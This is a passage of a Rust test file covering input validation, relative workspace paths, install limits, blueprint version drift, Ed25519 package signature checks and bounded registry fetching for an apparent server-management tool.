        let mut v = text_input("V", "");
        v.kind = kind;
        check_value(&v, value, &n, p, u).err().map(|e| e.fault)
    };
    let fine = NumberVerdict::Fine;
    let text = |max_len| InputKind::Text { max_len, pattern: None };
    assert_eq!(fault(text(Some(2)), "abc", fine.clone(), &no_pattern, &no_url), Some(InputFault::TooLong));
    assert_eq!(fault(text(Some(3)), "abc", fine.clone(), &no_pattern, &no_url), None);
    assert_eq!(
        fault(text(None), "abc", fine.clone(), &PatternVerdict::Invalid { reason: "r".into() }, &no_url),
        Some(InputFault::PatternInvalid)
    );
    assert_eq!(fault(text(None), "abc", fine.clone(), &PatternVerdict::Differs, &no_url), Some(InputFault::NoMatch));
    let n = || number_kind(Some("1"), Some("5"));
    assert_eq!(fault(n(), "x", NumberVerdict::NotANumber, &no_pattern, &no_url), Some(InputFault::NotNumber));
    assert_eq!(fault(n(), "x", NumberVerdict::TooLow { bound: "1".into() }, &no_pattern, &no_url), Some(InputFault::BelowMin));
    assert_eq!(fault(n(), "x", NumberVerdict::TooHigh { bound: "5".into() }, &no_pattern, &no_url), Some(InputFault::AboveMax));
    assert_eq!(fault(InputKind::Bool, "maybe", fine.clone(), &no_pattern, &no_url), Some(InputFault::NotBool));
    assert_eq!(fault(InputKind::Bool, "Yes", fine.clone(), &no_pattern, &no_url), None);
    assert_eq!(
        fault(InputKind::Choice { options: vec!["a".into()] }, "b", fine.clone(), &no_pattern, &no_url),
        Some(InputFault::NotChoice)
    );
    assert_eq!(fault(InputKind::Url, "x", fine.clone(), &no_pattern, &no_url), Some(InputFault::NotUrl));
    let mut v = text_input("V", "");
    v.kind = InputKind::Text { max_len: None, pattern: Some("^a+$".into()) };
    assert!(valid(&v, "aaa").is_ok());
    assert!(valid(&v, "aab").is_err());
}

#[test]
fn workspace_paths_stay_relative() {
    let fault = |p: &str| validate_workspace_path("P", p).err().map(|e| e.fault);
    assert_eq!(fault("a/b"), None);
    assert_eq!(fault("/a"), Some(InputFault::PathAbsolute));
    assert_eq!(fault("~/a"), Some(InputFault::PathHome));
    assert_eq!(fault("a/../b"), Some(InputFault::PathUp));
}

#[test]
fn overrides_and_findings_apply() {
    let v = vec![text_input("A", "1"), text_input("B", "2")];
    assert_eq!(resolve_variables(&v, &vec![("B".into(), "9".into())]), vec!["1", "9"]);
    let findings = vec![Findings { number: NumberVerdict::Fine, root: None, found: vec![] }; 2];
    assert!(validate_resolved_variables(&v, &vec!["1".into(), "9".into()], "/w", &findings).is_ok());
    assert!(is_command_value("input.A") && !is_command_value("server.port"));
    assert_eq!(shell_quote("plain-1.0"), "plain-1.0");
    assert_eq!(shell_quote("a b"), "'a b'");
    let w = workspace(v, "");
    assert_eq!(resolve_startup(&w, "run ${input.A}").unwrap(), "run 1");
}

#[test]
fn setup_has_limits_and_is_reported() {
    let mut s = server("");
    s.memory_mb = 10;
    s.cpu_percent = 1;
    let l = install_limits(&s);
    assert_eq!((l.memory_bytes, l.cpu_percent, l.pids_max), (268_435_456, 25, 256));
    assert_eq!(wait_install(true, 700_000), WaitAction::Finished);
    assert_eq!(wait_install(false, 600_000), WaitAction::Kill);
    assert_eq!(wait_install(false, 1), WaitAction::Sleep);
    let r = install_report("srv", false, false, "one\ntwo\n");
    assert_eq!(r.error.as_deref(), Some("install script failed: two"));
    assert_eq!(install_report("srv", true, false, "").error.as_deref(), Some("install script timed out after 600 seconds"));
    assert!(install_report("srv", false, true, "").error.is_none());
    assert_eq!(keep_tail("ab", "cd"), "abcd");
    assert_eq!(keep_tail(&"x".repeat(399), "yz").len(), 400);
    assert_eq!(keep_tail(&"é".repeat(200), "z"), "é".repeat(199) + "z");
    assert!(run_install(&workspace(vec![], ""), &Some("  ".into())).unwrap().is_none());
    assert!(is_scripted(&Some(" x".into())) && !is_scripted(&Some(" \n".into())) && !is_scripted(&None));
    assert_eq!(default_runtime(), "native");
    assert_eq!(default_stop(), "stop");
    assert_eq!(InstallScript { script: "x".into() }.script, "x");
}

#[test]
fn drift_is_told_for_pinned_servers() {
    let before = bp();
    let mut h = history(&before);
    let mut updated = bp();
    updated.startup = "other".into();
    h.snapshot_and_update(content(&updated), "alice", "n", "t");
    let pinned = |id, v| PinnedServer { id, name: "s".into(), pinned_version: v };
    assert!(drift_for_blueprint(&h, &vec![pinned(4, 2)]).is_empty());
    h.snapshot("alice", "n", "t");
    let d = drift_for_blueprint(&h, &vec![pinned(4, 2), pinned(5, 3), pinned(6, 0), pinned(7, 1)]);
    assert_eq!(d.len(), 2);
    assert_eq!((d[0].server_id, d[0].pinned_version, d[0].current_version), (4, 2, 3));
    assert_eq!(d[0].fields, vec!["startup"]);
    assert_eq!((d[1].server_id, d[1].fields.clone()), (6, vec!["unpinned".to_string()]));
    assert_eq!(pin_server(None, 2).unwrap_err(), PinError::NoServer);
    assert_eq!(pin_server(Some(&h), 7).unwrap_err(), PinError::NoRevision { version: 7 });
    assert_eq!(pin_server(Some(&h), 2).unwrap(), 2);
}

#[test]
fn package_refusals_have_their_own_errors() {
    let doc = publish_package("/r", package(1, "a"), Some(&hex::encode([1u8; 32])), "n").unwrap().doc;
    let bad = |d: Json| verify_package_signature(&d).unwrap_err();
    assert!(matches!(bad(doc.copy().remove("public_key")), PackageError::NoPublicKey));
    assert!(matches!(bad(doc.copy().insert("public_key", Json::text("zz"))), PackageError::KeyHex));
    assert!(matches!(bad(doc.copy().insert("public_key", Json::text("00"))), PackageError::KeyLength));
    assert!(matches!(bad(doc.copy().insert("signature", Json::text("zz"))), PackageError::SignatureHex));
    assert!(matches!(bad(doc.copy().insert("signature", Json::text("00"))), PackageError::SignatureLength));
    assert!(matches!(judge_signature(Some("r".into()), false), Err(PackageError::KeyInvalid { .. })));
    assert!(judge_signature(None, true).unwrap());
    assert!(matches!(signing_key_from_hex("zz"), Err(PackageError::SeedHex)));
    assert!(matches!(signing_key_from_hex("00"), Err(PackageError::SeedLength)));
    assert!(matches!(publish_package("/r", Json::object(), None, "n"), Err(PackageError::NoId)));
    assert!(matches!(package_to_load("/r", "../x", 1), Err(PackageError::InvalidId)));
    assert!(matches!(
        load_found_package("a", 1, FoundPackage::Corrupt { reason: "r".into() }),
        Err(PackageError::Corrupt { .. })
    ));
    let corrupt = load_registry_package("a", 1, Some("{oops")).unwrap_err().message();
    assert!(corrupt.starts_with("registry package 'a@v1' is corrupt: "), "got: {corrupt}");
    let missing = load_registry_package("a", 1, None).unwrap_err().message();
    assert_eq!(missing, "registry package 'a@v1' not found");
    let torn = admit_fetched(b"{oops").unwrap_err().message();
    assert!(torn.starts_with("remote registry returned invalid JSON: "), "got: {torn}");
    let whole = canonical_json(&doc);
    assert_eq!(canonical_json(&admit_fetched(whole.as_bytes()).unwrap()), whole);
    let forged = whole.replace("\"publisher\":\"a\"", "\"publisher\":\"b\"");
    assert!(matches!(admit_fetched(forged.as_bytes()), Err(PackageError::SignatureInvalid)));
    let read = |name: &str, doc: Option<Json>| PackageRead { name: name.into(), doc };
    let listed = list_read_packages(&vec![
        read("a@1.json", Some(doc.copy())),
        read("a@1.txt", Some(doc.copy())),
        read("b@1.json", None),
        read("c@1.json", Some(Json::object())),
    ]);
    assert_eq!(listed.len(), 1);
    assert!(admit_package(doc.copy()).is_ok());
    assert!(admit_package(doc.insert("version", Json::integer(5))).is_err());
    assert!(valid_package_id("a-1") && !valid_package_id(""));
    assert!(valid_uuid_segment("abc-1") && !valid_uuid_segment("../x"));
    assert_eq!(registry_root("/base"), "/base/registry");
}

#[test]
fn keys_and_fingerprints_are_those_of_ed25519() {
    let seed = [9u8; 32];
    let key = signing_key_from_hex(&hex::encode(seed)).unwrap();
    let theirs = ed25519_dalek::SigningKey::from_bytes(&seed);
    assert_eq!(public_key_hex(&key), hex::encode(theirs.verifying_key().to_bytes()));
    assert_eq!(public_key_fingerprint("00").len(), public_key_fingerprint("ff").len());
    let doc = package(1, "a").insert("public_key", Json::text(&public_key_hex(&key)));
    let (plain, sig) = sign_package_doc(doc, &key);
    assert_eq!(sig.len(), 128);
    assert!(!package_is_signed(&plain));
    assert!(verify_package_signature(&plain.insert("signature", Json::text(&sig))).unwrap());
}

#[test]
fn registry_fetch_is_bounded() {
    let mut f = RegistryFetch::fetch_registry_package(10);
    f.request().unwrap();
    match f.response("https://a.example/x", 302, &Header::Text("/y".into())).unwrap() {
        PullNext::Redirect { url } => assert_eq!(url, "https://a.example/y"),
        other => panic!("{other:?}"),
    }
    assert!(matches!(f.response("https://a.example/x", 200, &Header::Missing).unwrap(), PullNext::Body));
    assert!(matches!(f.response("https://a.example/x", 302, &Header::Missing), Err(FetchError::NoLocation)));
    assert!(matches!(f.response("https://a.example/x", 404, &Header::Missing), Err(FetchError::Status { status: 404 })));
    f.chunk(10).unwrap();
    assert!(matches!(f.chunk(1), Err(FetchError::TooLarge { cap: 10 })));
    let mut f = RegistryFetch::fetch_registry_package(10);
    for _ in 0..6 {
        f.request().unwrap();
    }
    assert!(matches!(f.request(), Err(FetchError::TooManyRedirects { .. })));
}
